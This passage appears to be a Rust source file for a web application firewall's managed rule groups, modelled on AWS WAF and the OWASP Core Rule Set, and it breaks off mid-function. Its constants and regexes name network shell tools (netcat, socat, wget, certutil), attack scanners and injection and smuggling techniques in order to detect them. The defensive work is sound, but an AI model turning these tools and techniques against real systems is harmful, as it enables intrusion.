//! The managed rule groups SecureCart ships, as AWS WAF's managed rule groups: each rule
//! with a stable id, blocking by default. What they look for follows the OWASP Core Rule
//! Set's families (920 protocol, 930 traversal, 931 remote inclusion, 932 command
//! injection, 933 PHP, 934 generic, 941 XSS, 942 SQL injection, 944 Java), written anew
//! for this engine: libinjection's detectors for SQL and HTML, and short expressions for
//! the rest, each over the fields and transformations it needs.

use http::HeaderName;

use crate::acl::{Rule, RuleAction, WebAcl};
use crate::inspect::Field;
use crate::statement::Statement;
use crate::transform::Transform;

/// A managed rule group.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Group {
    /// Protocol anomalies, scanners, methods.
    Core,
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Known bad inputs: Log4Shell lookups, SSRF to cloud metadata, path traversal, remote
    /// file inclusion.
    KnownBadInputs,
    /// Unix and Windows command injection.
    CommandInjection,
    /// PHP attacks.
    Php,
    /// Java and Node.js attacks.
    Java,
}

impl Group {
    /// Every group.
    pub const ALL: [Group; 7] = [
        Group::Core,
        Group::Sqli,
        Group::Xss,
        Group::KnownBadInputs,
        Group::CommandInjection,
        Group::Php,
        Group::Java,
    ];

    /// Its name, as the topology writes it.
    pub fn name(self) -> &'static str {
        match self {
            Group::Core => "core",
            Group::Sqli => "sql-injection",
            Group::Xss => "xss",
            Group::KnownBadInputs => "known-bad-inputs",
            Group::CommandInjection => "command-injection",
            Group::Php => "php",
            Group::Java => "java",
        }
    }

    /// The group of a name.
    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|group| group.name() == name)
    }

    /// Its rules up to a paranoia level (1 to 4), with priorities from `base` up.
    pub fn rules(self, base: u32, paranoia: u8) -> Vec<Rule> {
        let specs: Vec<(&str, Statement)> = match self {
            Group::Core => core(),
            Group::Sqli => sqli(),
            Group::Xss => xss(),
            Group::KnownBadInputs => known_bad_inputs(),
            Group::CommandInjection => command_injection(),
            Group::Php => php(),
            Group::Java => java(),
        };
        // Level 1 rules are critical findings; stricter levels add what they accept to
        // block at the cost of false positives, some only weak signs.
        let strict = strict(self)
            .into_iter()
            .filter(|(_, level, _, _)| *level <= paranoia);
        specs
            .into_iter()
            .map(|(id, statement)| (id, CRITICAL, statement))
            .chain(strict.map(|(id, _, score, statement)| (id, score, statement)))
            .enumerate()
            .map(|(index, (id, score, statement))| Rule {
                id: id.to_owned(),
                priority: base + index as u32,
                statement,
                // A weak sign only counts (is logged) by itself; in an ACL that scores,
                // it adds its score like every other.
                action: if score >= CRITICAL {
                    RuleAction::Block
                } else {
                    RuleAction::Count
                },
                labels: vec![format!("securecart:managed:{}:{id}", self.name())],
                response: None,
                // A request past the inspection's limits is refused by itself, in an ACL
                // that scores too: what hides past them would never add its own score.
                score: if id == PAST_THE_LIMITS { 0 } else { score },
            })
            .collect()
    }
}

/// The anomaly scores of the managed rules' findings, as CRS's severities.
const CRITICAL: u8 = 5;
const WARNING: u8 = 3;
const NOTICE: u8 = 2;

/// How the managed groups run: up to which paranoia level (1 to 4: CRS's; each level adds
/// stricter rules, and false positives), and whether they score anomalies (blocking at a
/// threshold, as CRS's anomaly scoring mode) or each block by itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sensitivity {
    /// The paranoia level, 1 to 4.
    pub paranoia: u8,
    /// The anomaly score that blocks, if the rules score (CRS's default is 5: one critical
    /// finding, or several weaker ones).
    pub anomaly_threshold: Option<u32>,
}

impl Default for Sensitivity {
    /// Paranoia level 1, each rule blocking: what the default topology and `proxy --waf`
    /// run.
    fn default() -> Self {
        Self {
            paranoia: 1,
            anomaly_threshold: None,
        }
    }
}

/// How an operator places and tunes the managed groups, as AWS WAF's reference to a
/// managed rule group does: its priority among the web ACL's own rules, and rule action
/// overrides.
#[derive(Debug, Clone, Default)]
pub struct Overrides {
    /// The operator's rules with a lower priority run before the managed groups, the
    /// others after them (where a `label_match` sees the managed rules' labels). `None`:
    /// every rule of the operator's runs before them.
    pub managed_priority: Option<u32>,
    /// Managed rules, by id, that only count: a match is logged and labelled, and neither
    /// blocks nor adds to an anomaly score (AWS WAF's `Count` override, for a rule that
    /// blocks something a shop needs; a later rule may act on its label).
    pub count: Vec<String>,
    /// The web ACL's default action is to block (AWS WAF's `DefaultAction: Block`): a
    /// request no rule allowed is refused. `false`: it is allowed.
    pub default_block: bool,
    /// The answer the default action's block gives instead of the edge's 403 (AWS WAF's
    /// `DefaultAction: Block` with a custom response).
    pub default_response: Option<std::sync::Arc<crate::BlockResponse>>,
    /// What each managed group is told, by group (AWS WAF's managed rule group statement's
    /// scope-down statement, override action and rule action overrides).
    pub groups: Vec<(Group, GroupOverride)>,
}

/// How one managed rule group is tuned.
#[derive(Debug, Clone, Default)]
pub struct GroupOverride {
    /// Every rule of the group only counts (AWS WAF's `OverrideAction: Count`), to try a
    /// group before it blocks.
    pub count_all: bool,
    /// Only the requests this statement matches are inspected by the group (AWS WAF's
    /// scope-down statement): the group's rules run behind it.
    pub scope_down: Option<Statement>,
    /// Rules given another action, by id (AWS WAF's `RuleActionOverrides`): `count` to let
    /// a rule only log, `block` for one that counts at a lower paranoia, `allow`.
    pub rule_actions: Vec<(String, RuleAction)>,
}

/// The default web ACL: every managed group, blocking; what none blocks is allowed.
pub fn default_acl() -> WebAcl {
    acl(&Group::ALL)
}

/// A web ACL of these managed groups, in this order, blocking; what none blocks is
/// allowed.
pub fn acl(groups: &[Group]) -> WebAcl {
    acl_with(
        Vec::new(),
        groups,
        Sensitivity::default(),
        &Overrides::default(),
    )
}

/// The id of every managed rule, of every group and paranoia level.
pub fn rule_ids() -> Vec<String> {
    Group::ALL
        .into_iter()
        .flat_map(|group| group.rules(0, 4))
        .map(|rule| rule.id)
        .collect()
}

/// A web ACL of the operator's own `rules` (at most 999, in their priority order) and of
/// these managed groups in this order at `sensitivity`, placed and tuned by `overrides`;
/// what no rule blocks is allowed.
pub fn acl_with(
    mut rules: Vec<Rule>,
    groups: &[Group],
    sensitivity: Sensitivity,
    overrides: &Overrides,
) -> WebAcl {
    rules.sort_by_key(|rule| rule.priority);
    let managed_priority = overrides.managed_priority.unwrap_or(u32::MAX);
    let (before, after): (Vec<Rule>, Vec<Rule>) = rules
        .into_iter()
        .partition(|rule| rule.priority < managed_priority);
    // Priorities: the rules before from 0, each group's from 1000 x its place, the rules
    // after past the last group's.
    let after_from = 1000 * (groups.len() as u32 + 1);
    let mut rules: Vec<Rule> = before
        .into_iter()
        .enumerate()
        .map(|(index, mut rule)| {
            rule.priority = u32::try_from(index).unwrap_or(999).min(999);
            rule
        })
        .collect();
    rules.extend(groups.iter().enumerate().flat_map(|(index, group)| {
        let tuned = overrides
            .groups
            .iter()
            .find(|(tuned, _)| tuned == group)
            .map(|(_, tuned)| tuned);
        group
            .rules(1000 * (index as u32 + 1), sensitivity.paranoia)
            .into_iter()
            .map(move |mut rule| {
                let overridden = tuned.and_then(|tuned| {
                    tuned
                        .rule_actions
                        .iter()
                        .find(|(id, _)| *id == rule.id)
                        .map(|(_, action)| *action)
                });
                if let Some(action) = overridden {
                    // An action of the operator's acts by itself, also where rules score.
                    rule.action = action;
                    rule.score = 0;
                }
                if overrides.count.contains(&rule.id) || tuned.is_some_and(|tuned| tuned.count_all)
                {
                    rule.action = RuleAction::Count;
                    rule.score = 0;
                }
                if let Some(scope_down) = tuned.and_then(|tuned| tuned.scope_down.clone()) {
                    rule.statement = Statement::And(vec![scope_down, rule.statement]);
                }
                rule
            })
    }));
    rules.extend(after.into_iter().enumerate().map(|(index, mut rule)| {
        rule.priority = after_from + u32::try_from(index).unwrap_or(999).min(999);
        rule
    }));
    let acl = WebAcl::new(rules, overrides.default_block)
        .with_default_response(overrides.default_response.clone());
    match sensitivity.anomaly_threshold {
        Some(threshold) => acl.scoring(threshold),
        None => acl,
    }
}

/// The rules of paranoia levels 2 to 4: (id, level, score, statement).
fn strict(group: Group) -> Vec<(&'static str, u8, u8, Statement)> {
    // Characters SQL injection leans on (CRS 942430-942432 count them).
    const SQL_CHARACTERS: &str = r#"[~!@#$%^&*()\-+={}\[\]|:;"'`<>]"#;
    let special = |count: u32| {
        format!(r#"(?:{SQL_CHARACTERS}[^~!@#$%^&*()\-+={{}}\[\]|:;"'`<>]*){{{count}}}"#)
    };
    match group {
        Group::Core => vec![
            // No Accept, no User-Agent: browsers send both (CRS 920300, 920320).
            (
                "SC-CORE-101",
                2,
                NOTICE,
                Statement::Size {
                    field: header("accept"),
                    comparison: crate::statement::Comparison::Eq,
                    size: 0,
                },
            ),
            (
                "SC-CORE-102",
                2,
                NOTICE,
                Statement::Size {
                    field: header("user-agent"),
                    comparison: crate::statement::Comparison::Eq,
                    size: 0,
                },
            ),
            // Control characters in the path or arguments (CRS 920271).
            (
                "SC-CORE-103",
                2,
                CRITICAL,
                regex_in(
                    [inputs(), vec![Field::UriPath]].concat(),
                    r"[\x01-\x08\x0b\x0c\x0e-\x1f\x7f]",
                    &[UrlDecodeUni],
                ),
            ),
            // Bytes outside printable ASCII in the path or query (CRS 920272).
            (
                "SC-CORE-104",
                3,
                CRITICAL,
                regex_in(
                    vec![Field::UriPath, Field::QueryString],
                    r"[^\x20-\x7e]",
                    &[UrlDecodeUni],
                ),
            ),
            // Arguments of more than letters, digits and a few separators (CRS 920273).
            (
                "SC-CORE-105",
                4,
                CRITICAL,
                regex_in(inputs(), r"[^A-Za-z0-9&,\-./:=_ ]", &[]),
            ),
        ],
        Group::Sqli => vec![
            (
                "SC-SQLI-101",
                2,
                WARNING,
                regex_in(inputs(), &special(12), &[UrlDecodeUni]),
            ),
            (
                "SC-SQLI-102",
                3,
                WARNING,
                regex_in(inputs(), &special(6), &[UrlDecodeUni]),
            ),
            (
                "SC-SQLI-103",
                4,
                WARNING,
                regex_in(inputs(), &special(2), &[UrlDecodeUni]),
            ),
            // SQL words beside comment syntax: obfuscation (CRS 942200, 942440).
            (
                "SC-SQLI-104",
                2,
                CRITICAL,
                regex_in(
                    inputs(),
                    r"(?i)\b(?:select|union|insert|update|delete|drop|and|or|from|where|order|group|having|exec)\b.{0,60}(?:/\*|\*/|--\s|--$|#)|(?:/\*!?|--\s|#).{0,60}\b(?:select|union|insert|update|delete|drop|from|where)\b",
                    &[UrlDecodeUni],
                ),
            ),
        ],
        Group::Xss => vec![
            // Any HTML tag in an input (CRS 941320-ish).
            (
                "SC-XSS-101",
                2,
                CRITICAL,
                regex_in(
                    inputs(),
                    r"(?i)<\s*/?\s*[a-z][a-z0-9-]*(?:\s[^>]*)?>",
                    &[UrlDecodeUni, HtmlEntityDecode, JsDecode],
                ),
            ),
        ],
        Group::CommandInjection => vec![
            // A shell separator before a word: a command chained on (CRS 932200).
            (
                "SC-CMD-101",
                2,
                WARNING,
                regex_in(
                    inputs(),
                    r"(?:[;|`]|&&|\$\(|\$\{)\s*[a-z_./\\]",
                    &[UrlDecodeUni, CompressWhitespace],
                ),
            ),
        ],
        Group::KnownBadInputs | Group::Php | Group::Java => Vec::new(),
    }
}

/// Commands that run without arguments (SC-CMD-013) and are no English words or
/// initials.
const NO_ARGUMENTS: &str = "aptitude|dmesg|hostname|htop|iostat|vmstat|reboot|lastlog|lastlogin|mysql|psql|shutdown|whoami|whois";

/// Commands that run without arguments and are also words or initials ("set", "last",
/// "PS", "Su"...): only right after a separator.
const NO_ARGUMENTS_WORDS: &str = "df|env|last|ls|ps|set|su|who";

/// Unix and Windows commands no English text or name holds (SC-CMD-001).
const COMMANDS: &str = "whoami|uname|wget|ncat|netcat|zsh|ksh|chmod|chown|nslookup|telnet|ssh|scp|tftp|busybox|printenv|nohup|xterm|gcc|ifconfig|netstat|crontab|useradd|passwd|sudo|base64|xxd|nmap|socat|mkfifo|regedit|bcdboot|bcdedit|aptitude|apt-get|dpkg|wmic|certutil|bitsadmin|mshta|rundll32|regsvr32|cscript|wscript|vssadmin|wevtutil|schtasks|tasklist|taskkill|netsh|diskpart";

/// Commands that are also English words or names ("more", "head", "find", "Ruby",
/// "Dash", "curl" cream, "LS" initials): after a separator with a space, only with what
/// a shell's arguments have and text has not (SC-CMD-001).
const COMMAND_WORDS: &str = "ls|curl|nc|bash|sh|dash|python[23]?|perl|ruby|php|awk|sed|grep|cat|id|rm|echo|ping|dig|sleep|kill|ps|env|more|less|head|tail|find|su|tar|timeout|who|reg|yum|rpm";

/// What a shell's arguments have and text has not, after a command word: an option (a
/// dash and a letter), an absolute or home-relative path, a variable, a backquote or
/// `#` right after the word, `&&` or `||`, numbers alone (`sleep 5`, `kill -9 1`), a
/// host or file name with a dot alone, or a redirection to a path.
const SHELL_ARGUMENTS: &str = r"(?:\s+-[a-z]|[`#$]|\s+\$[{a-z_(]|\s+(?:\.{0,2}/|~/)\w|\s*(?:&&|\|\|)|\s+\d+(?:\s+\d+)*\s*(?:[;&|#`\n\r]|$)|\s+[\w-]+\.[\w.-]+\s*(?:[;&|#`\n\r]|$)|\s*[<>]\s*[/~$&])";

/// The directories a command may be named from (`/bin/cat`, `usr/bin/id`).
const BIN: &str = r"(?:/?(?:usr/)?(?:local/)?(?:s?bin/)?)";

/// What ends a command word in a shell, after a name's extension or version if any
/// (`ping.exe`, `nc.openbsd`, `python3.8`): the value's end, white space, an operator,
/// a redirection, a quote, a comment, an expansion (`cat$u`, `cat${IFS}`, cmd's
/// `%VAR:~10,-18%`), a subshell, or the bracket or brace of what it is quoted in
/// (`@{[open F,'|ls']}` once the quotes are removed); CRS 932230 ends its short commands
/// so. Not `=`: `&id=7` is a query
/// string's argument (`next=/cart?cat=3&id=7`), and `id=7` an assignment in a shell.
const COMMAND_END: &str = r#"(?:\.[\w.-]*)?(?:[\s&|;)(<>`'"$#%,\\{}\]]|$)"#;

/// Parameters that PHP applications known for remote file inclusion build a path of
/// (PHP reads `.` and space in a name as `_`; CRS 931110).
const RFI_PARAMETERS: &str = r"mosConfig[._ ]absolute[._ ]path|[._ ]CONF\[path\]|[._ ]SERVER\[DOCUMENT[._ ]ROOT\]|path\[docroot\]|config\[root[._ ]dir\]|GALLERY[._ ]BASEDIR|appserv[._ ]root";

/// Where user input arrives: argument names and values, form and JSON body values, and
/// cookies.
fn inputs() -> Vec<Field> {
    vec![
        Field::AllQueryArguments,
        Field::QueryArgumentNames,
        Field::BodyFields,
        Field::Cookies,
    ]
}

/// One statement over several fields: any of them.
fn over(fields: Vec<Field>, statement: impl Fn(Field) -> Statement) -> Statement {
    Statement::Or(fields.into_iter().map(statement).collect())
}

/// A regular expression over several fields: any of them.
fn regex_in(fields: Vec<Field>, pattern: &str, transforms: &[Transform]) -> Statement {
    over(fields, |field| regex(field, pattern, transforms))
}

fn regex(field: Field, pattern: &str, transforms: &[Transform]) -> Statement {
    Statement::regex(field, pattern, transforms).unwrap_or_else(|error| {
        // The patterns are this file's constants; a bad one is caught by the tests.
        panic!("managed rule pattern {pattern:?}: {error}")
    })
}

/// Any of several strings, in any case: one expression of their alternation, which the
/// ACL merges with the others read through the same transformations.
fn any_of(field: Field, strings: &[&str], transforms: &[Transform]) -> Statement {
    let alternation: Vec<String> = strings.iter().map(|string| regex::escape(string)).collect();
    regex(field, &format!("(?i){}", alternation.join("|")), transforms)
}

use Transform::{
    Base64Decode, CmdLine, CompressWhitespace, HtmlEntityDecode, JsDecode, Lowercase,
    NormalizePathWin, RemoveNulls, RemoveShellQuotes, RemoveWhitespace, ReplaceComments,
    UrlDecodeUni,
};

fn header(name: &'static str) -> Field {
    Field::Header(HeaderName::from_static(name))
}

fn core() -> Vec<(&'static str, Statement)> {
    let allowed_methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
    vec![
        // Headers or cookies past what the rules read (AWS WAF's oversize handling
        // `MATCH`, see `inspect::Limited`): more than 200 headers or cookies, more than
        // 8 KiB of `Cookie` lines (past nginx's default for one header line), or of the
        // other headers. Without it, an attack would pass behind 200 harmless cookies.
        // First, so that such a request is refused before any field is scanned.
        (PAST_THE_LIMITS, past_the_limits()),
        (
            "SC-CORE-001",
            Statement::Not(Box::new(Statement::Or(
                allowed_methods
                    .iter()
                    .map(|method| Statement::ByteMatch {
                        field: Field::Method,
                        position: crate::statement::Position::Exactly,
                        search: method.as_bytes().to_vec(),
                        transforms: Vec::new(),
                    })
                    .collect(),
            ))),
        ),
        (
            "SC-CORE-002",
            any_of(
                header("user-agent"),
                &[
                    "nikto",
                    "sqlmap",
                    "nmap",
                    "masscan",
                    "dirbuster",
                    "gobuster",
                    "wpscan",
                    "nuclei",
                    "acunetix",
                    "nessus",
                    "openvas",
                    "zgrab",
                    "w3af",
                    "havij",
                    "arachni",
                    "skipfish",
                    "whatweb",
                    "fuzz faster u fool",
                    "morfeus",
                    "zmeu",
                    "netsparker",
                    "appscan",
                    "webinspect",
                    "burpcollaborator",
                    "jorgee",
                ],
                &[],
            ),
        ),
        // A NUL byte, maybe URL-encoded, in the path, the query or a header (CRS 920270).
        (
            "SC-CORE-003",
            over(
                vec![Field::UriPath, Field::QueryString, Field::AllHeaders],
                |field| any_of(field, &["\0"], &[UrlDecodeUni]),
            ),
        ),
        (
            "SC-CORE-004",
            regex(
                Field::QueryString,
                r"%(?:[^0-9A-Fa-fUu]|[0-9A-Fa-f][^0-9A-Fa-f]|[0-9A-Fa-f]?$)",
                &[],
            ),
        ),
        (
            "SC-CORE-005",
            regex_in(
                vec![
                    Field::AllQueryArguments,
                    Field::QueryArgumentNames,
                    Field::BodyFields,
                    Field::Cookies,
                    Field::UriPath,
                ],
                r"(?i)[\r\n]\s*(?:content-(?:type|length)|set-cookie|cookie|location|refresh|http/\d|host|via|forwarded|x-forwarded-(?:for|host|server|proto)|remote-(?:addr|ip)|originating-ip|x-[\w-]+\s*:|<html|<meta)\s*:?",
                &[UrlDecodeUni],
            ),
        ),
        // Headers no client of a shop sends: the obsolete Request-Range (CRS 920660),
        // method overrides, `Proxy` (httpoxy), WebDAV's and compressed request bodies
        // (CRS 920450).
        (
            "SC-CORE-006",
            Statement::Or(
                [
                    "request-range",
                    "content-encoding",
                    "proxy",
                    "lock-token",
                    "content-range",
                    "if",
                    "x-http-method-override",
                    "x-http-method",
                    "x-method-override",
                    "x-middleware-subrequest",
                ]
                .into_iter()
                .map(present)
                .collect(),
            ),
        ),
        // A body type no form, API or browser sends (CRS 920420, with text/plain allowed
        // for `sendBeacon`, `+json` types for APIs and CSP reports), a charset outside
        // Unicode and Western ones (CRS 920480, with us-ascii allowed), or a Content-Type
        // that is not one (CRS 920470).
        (
            "SC-CORE-007",
            Statement::And(vec![
                present("content-type"),
                Statement::Not(Box::new(regex(
                    header("content-type"),
                    r"^\s*(?:application/(?:x-www-form-urlencoded|xml|soap\+xml|json|[\w.-]+\+json|csp-report)|multipart/(?:form-data|related)|text/(?:xml|plain))\s*(?:;|$)",
                    &[Lowercase],
                ))),
            ]),
        ),
        (
            "SC-CORE-008",
            Statement::And(vec![
                regex(header("content-type"), r"charset", &[Lowercase]),
                Statement::Not(Box::new(regex(
                    header("content-type"),
                    r#"charset\s*=\s*["']?(?:utf-?8|us-ascii|iso-8859-15?|windows-1252)["']?\s*(?:;|$)"#,
                    &[Lowercase],
                ))),
            ]),
        ),
        (
            "SC-CORE-009",
            Statement::And(vec![
                present("content-type"),
                Statement::Not(Box::new(regex(
                    header("content-type"),
                    r#"^[\w/.+*-]+(?:\s?;\s*(?:action|boundary|charset|component|start(?:-info)?|type|version)\s?=\s?['"\w.()+,/:=?<>@#*-]+)*$"#,
                    &[Lowercase],
                ))),
            ]),
        ),
        // A body without a Content-Type: what is it? (CRS 920640)
        (
            "SC-CORE-010",
            Statement::And(vec![
                declared_body(),
                Statement::Not(Box::new(present("content-type"))),
            ]),
        ),
        // An Accept-Encoding no browser sends (CRS 920520).
        (
            "SC-CORE-011",
            Statement::Size {
                field: header("accept-encoding"),
                comparison: crate::statement::Comparison::Gt,
                size: 100,
            },
        ),
        // Files a site keeps but never serves: backups, configuration, databases, logs,
        // keys, compressed database dumps (CRS 920440, without `.com`, which ends many a
        // path holding an e-mail address; 930130), and a development server's way to any
        // file (Vite's `/@fs/` and `/@id/`, 930130).
        (
            "SC-CORE-012",
            regex(
                Field::UriPath,
                r"\.(?:asa|asax|ascx|backup|bak|bat|cdx|cer|cfg|cmd|config|conf|cs|csproj|csr|dat|db|dbf|dll|dos|htr|htw|ida|idc|idq|inc|ini|key|licx|lnk|log|mdb|old|pass|pdb|pem|pol|printer|pwd|rdb|resources|resx|sql|swp|sys|vb|vbs|vbproj|vsdisco|webinfo|xsd|xsx)$|\.sql\.(?:gz|bz2|xz|zst|zip|7z|rar|tar|tgz)$|^/@(?:fs|id)/",
                &[UrlDecodeUni, Lowercase],
            ),
        ),
        // Double quotes, `=`, `;` or `\` in a multipart part's name or file name: a trick
        // to make parsers disagree on where a part begins (CRS 920120). A `;` that ends an
        // HTML entity (`&auml;`, `&#26085;`, as browsers send some names) is let through,
        // and so are apostrophes, which ordinary file names have (`Mom's photo.jpg`).
        (
            "SC-CORE-013",
            regex(
                Field::MultipartNames,
                r#"["=\\]|(?:^|[^&#a-zA-Z0-9])[a-zA-Z0-9]*;"#,
                &[],
            ),
        ),
        // A body on a GET or HEAD, which servers read differently (CRS 920170).
        (
            "SC-CORE-014",
            Statement::And(vec![
                regex(Field::Method, "^(?:GET|HEAD)$", &[]),
                declared_body(),
            ]),
        ),
        // `keep-alive` or `close` said twice in Connection (CRS 920210).
        (
            "SC-CORE-015",
            regex(
                header("connection"),
                r"\b(?:keep-alive|close)\b.*\b(?:keep-alive|close)\b",
                &[Lowercase],
            ),
        ),
        // An editor's backup of a file (`index.php~`, CRS 920500).
        (
            "SC-CORE-016",
            regex(Field::UriPath, r"\.[^./~]+~(?:/.*)?$", &[UrlDecodeUni]),
        ),
        // A line break in the path (CRS 921190): no URL has one, and a server may split
        // the request there.
        (
            "SC-CORE-017",
            regex(Field::UriPath, r"[\r\n]", &[UrlDecodeUni]),
        ),
        // A request line inside an argument, maybe glued to what comes before it
        // (`barGET /a.html HTTP/1.1`): request smuggling through a proxy that forwards it
        // (CRS 921110). Its target is a path, `*`, or an absolute URL or authority, so
        // that "great throughput over HTTP/2" is text.
        (
            "SC-CORE-018",
            regex_in(
                inputs(),
                r"(?i)(?:get|post|head|options|connect|put|delete|trace|track|patch|propfind|proppatch|mkcol|copy|move|lock|unlock)\s+(?:/|\*|[a-z][\w+.-]*:)\S*\s+http/\d",
                &[UrlDecodeUni],
            ),
        ),
        // LDAP filter injection: a value closing a filter and opening another,
        // `x)(uid=*`, `x)|(cn=admin` (CRS 921200).
        (
            "SC-CORE-019",
            regex_in(
                inputs(),
                r"^[^:()&|!<>~]*\)\s*(?:\(\s*[\w.-]+\s*[<>~]?=|[&|!]\s*\(|\(\s*[&|!])",
                &[UrlDecodeUni],
            ),
        ),
        // A Content-Type whose parameters name another media type, for a parser that reads
        // the second (CRS 921421).
        (
            "SC-CORE-020",
            regex(
                header("content-type"),
                r"(?i)^[^;]*;.*\b(?:application|text|multipart|image|audio|video)\s*/",
                &[],
            ),
        ),
        // A multipart part in a charset that hides text from inspection (UTF-7, UTF-16,
        // Shift-JIS, EBCDIC...; CRS 922110), or with a Content-Transfer-Encoding, which
        // RFC 7578 retired (CRS 922120); or a form's `_charset_` field naming a charset
        // other than [`ALLOWED_CHARSETS`] (CRS 922100).
        (
            "SC-CORE-021",
            Statement::Or(vec![
                regex(
                    Field::MultipartHeaders,
                    r#"(?i)^\s*content-type\s*:.*\bcharset\s*=\s*"?\s*(?:utf-?(?:7|16|32)|ucs-?[24]|shift[_-]?jis|sjis|euc-|iso-2022|ibm|cp\d|ebcdic|gb|big5|koi8|x-)|^\s*content-transfer-encoding\s*:"#,
                    &[],
                ),
                regex(
                    Field::BodyField("_charset_".to_owned()),
                    &format!(r#"(?i)^\s*"?\s*(?:{})"#, none_of(ALLOWED_CHARSETS)),
                    &[],
                ),
            ]),
        ),
        // Requests split or forged through their fields: a line break in an argument's
        // name (CRS 921150), or one that URL decoding makes in a header, before another
        // header's name (`Headerdata%0dInjectedHeader: x`, 921140), mod_proxy's `unix:`
        // socket path before a `|` (921240), and the cookie format of RFC 2109
        // (`$Version=1`) that splits one cookie into two for a server and a WAF that read
        // it differently (921250).
        (
            "SC-CORE-022",
            Statement::Or(vec![
                // (A form's names are among its values, which may hold lines.)
                regex(Field::QueryArgumentNames, r"[\r\n]", &[]),
                regex(Field::AllHeaders, r"[\r\n][\w-]+\s*:", &[UrlDecodeUni]),
                regex_in(
                    vec![Field::QueryString, Field::UriPath],
                    r"(?i)\bunix:[^|]*\|",
                    &[UrlDecodeUni],
                ),
                regex(header("cookie"), r"^\s*\$Version\s*=", &[]),
            ]),
        ),
        // Encodings a filter may read otherwise than a server: IIS's full-width `%uff..`
        // (CRS 920260), a JavaScript `\u0061` escape in an argument (920540), two charsets
        // in a body's type (920530), and an Accept header asking for a charset other than
        // UTF-8, ISO-8859-1 or -15 and Windows-1252 (`charset=CP1026`, an EBCDIC that
        // turns the answer's text into other bytes; 920600).
        (
            "SC-CORE-023",
            Statement::Or(vec![
                regex_in(
                    vec![Field::QueryString, Field::UriPath],
                    r"(?i)%uff[0-9a-f]{2}",
                    &[],
                ),
                // (Not in a request with a JSON body, whose strings have such escapes,
                // as CRS does not.)
                Statement::And(vec![
                    Statement::Not(Box::new(regex(header("content-type"), r"(?i)json", &[]))),
                    regex_in(
                        vec![
                            Field::AllQueryArguments,
                            Field::QueryArgumentNames,
                            Field::BodyFields,
                        ],
                        r"(?i)\\u[0-9a-f]{4}",
                        &[],
                    ),
                ]),
                regex(header("content-type"), r"(?i)charset.*charset", &[]),
                regex(
                    header("accept"),
                    &format!(
                        r#"(?i);\s*charset\s*=\s*"?(?:{})"#,
                        none_of(ALLOWED_CHARSETS)
                    ),
                    &[],
                ),
            ]),
        ),
        // A Host header without a value (CRS 920290): a shop's every URL has a host.
        ("SC-CORE-024", regex(header("host"), r"^\s*$", &[])),
    ]
}

/// The managed rule that refuses a request past the inspection's limits.
const PAST_THE_LIMITS: &str = "SC-CORE-025";

/// A request whose headers or cookies are past the inspection's limits (whatever they
/// hold: the statements inside match nothing).
fn past_the_limits() -> Statement {
    let past = |limited| Statement::OnOversize {
        matches: true,
        limited,
        statement: Box::new(Statement::Or(Vec::new())),
    };
    Statement::Or(vec![
        past(crate::inspect::Limited::Cookies),
        past(crate::inspect::Limited::Headers),
    ])
}

/// Whether the request says it has a body: a Content-Length above 0, or a
/// Transfer-Encoding. (An HTTP/2 request whose headers do not end its stream says
/// neither, and is not taken for one with a body.)
fn declared_body() -> Statement {
    Statement::Or(vec![
        regex(header("content-length"), r"^\s*0*[1-9]", &[]),
        present("transfer-encoding"),
    ])
}

/// The charsets a request may say its text is in (CRS's
/// `allowed_request_content_type_charset`).
const ALLOWED_CHARSETS: &[&str] = &["utf-8", "iso-8859-1", "iso-8859-15", "windows-1252"];

/// Whether the request has the header at all (any value, also an empty one).
fn present(name: &'static str) -> Statement {
    regex(header(name), "^", &[])
}

/// An expression of the tokens (letters, digits, `_`, `.`, `:`, `-`) that are none of
/// `words`, in any case: what a token starts with decides, letter by letter, so that
/// no look-ahead is needed (the `regex` crate has none). `words` are lowercase tokens.
fn none_of(words: &[&str]) -> String {
    const TOKEN: &str = "abcdefghijklmnopqrstuvwxyz0123456789_.:-";
    /// The words' remainders after a prefix: the tokens that follow it.
    fn after(words: &[&[u8]]) -> String {
        let mut next: Vec<u8> = words
            .iter()
            .filter_map(|word| word.first().copied())
            .collect();
        next.sort_unstable();
        next.dedup();
        // A character that begins no remainder ends the match: no word starts so.
        let other: String = TOKEN
            .bytes()
            .filter(|byte| !next.contains(byte))
            .map(|byte| regex::escape(&char::from(byte).to_string()))
            .collect();
        let mut alternatives = vec![format!("[{other}]")];
        for byte in next {
            let rest: Vec<&[u8]> = words
                .iter()
                .filter(|word| word.first() == Some(&byte))
                .map(|word| &word[1..])
                .collect();
            let escaped = regex::escape(&char::from(byte).to_string());
            if rest.iter().all(|rest| rest.is_empty()) {
                // A whole word: any token character after it makes another token.
                alternatives.push(format!(r"{escaped}[\w.:-]"));
            } else {
                alternatives.push(format!("{escaped}(?:{})", after(&rest)));
            }
        }
        // The token ends before every word does (a word's prefix alone).
        if !words.iter().any(|word| word.is_empty()) {
            alternatives.push(r"(?:$|[^\w.:-])".to_owned());
        }
        alternatives.join("|")
    }
    let words: Vec<&[u8]> = words.iter().map(|word| word.as_bytes()).collect();
    let expression = after(&words);
    // The empty token is none of them, but no value either.
    expression
        .strip_suffix(r"|(?:$|[^\w.:-])")
        .unwrap_or(&expression)
        .to_owned()
}

fn sqli() -> Vec<(&'static str, Statement)> {
    vec![
        (
            "SC-SQLI-001",
            over(
                [inputs(), vec![header("user-agent"), header("referer")]].concat(),
                |field| Statement::Sqli {
                    field,
                    transforms: vec![RemoveNulls],
                },
            ),
        ),
        (
            "SC-SQLI-002",
            over(inputs(), |field| Statement::Sqli {
                field,
                transforms: vec![UrlDecodeUni, HtmlEntityDecode],
            }),
        ),
        (
            "SC-SQLI-003",
            regex_in(
                inputs(),
